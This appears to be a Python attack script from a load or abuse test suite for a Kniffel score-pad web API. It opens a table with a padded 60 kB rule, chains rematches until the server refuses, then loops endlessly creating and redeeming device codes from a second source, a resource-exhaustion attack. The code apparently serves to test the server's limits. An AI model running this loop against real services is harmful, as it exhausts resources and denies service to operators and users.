"""One address opens a score pad with a rule of 60 kB and rematches without end; then a guest follows them all."""

import secrets

import httpx
from attackers import SOURCES, client, table_of_one

RULE = 600 * f"# {'x' * 98}\n" + 'id = "mine"\nlike = "kniffel"\nnames = { de = "Meins", en = "Mine" }\n'


async def attack(address: str) -> None:
    """Runs until cancelled."""
    async with client(address) as http:
        first, key = await table_of_one(http, "block", {"toml": RULE})
        table, opened = first, 1
        while (following := await _play_on(http, table, key)) is not None:
            table, opened = following, opened + 1
        print(f"  {opened} tables, then refused", flush=True)
    async with client(address, SOURCES[1]) as guest:
        bearer = {"Authorization": f"Bearer {key}"}
        while True:
            made = await guest.post(f"/api/tables/{first}/codes", json={"what": "device"}, headers=bearer)
            if made.status_code == 200:
                await guest.post(f"/api/codes/{made.json()['code']}", json={"secret": secrets.token_urlsafe(16)})


async def _play_on(http: httpx.AsyncClient, table: str, key: str) -> str | None:
    # A rematch; returns its table.
    body = {"key": secrets.token_urlsafe(16), "expect": None, "seat": 0, "action": {"type": "rematch"}}
    answer = await http.post(f"/api/tables/{table}/actions", json=body, headers={"Authorization": f"Bearer {key}"})
    return str(answer.json()["events"][-1]["table"]) if answer.status_code == 200 else None
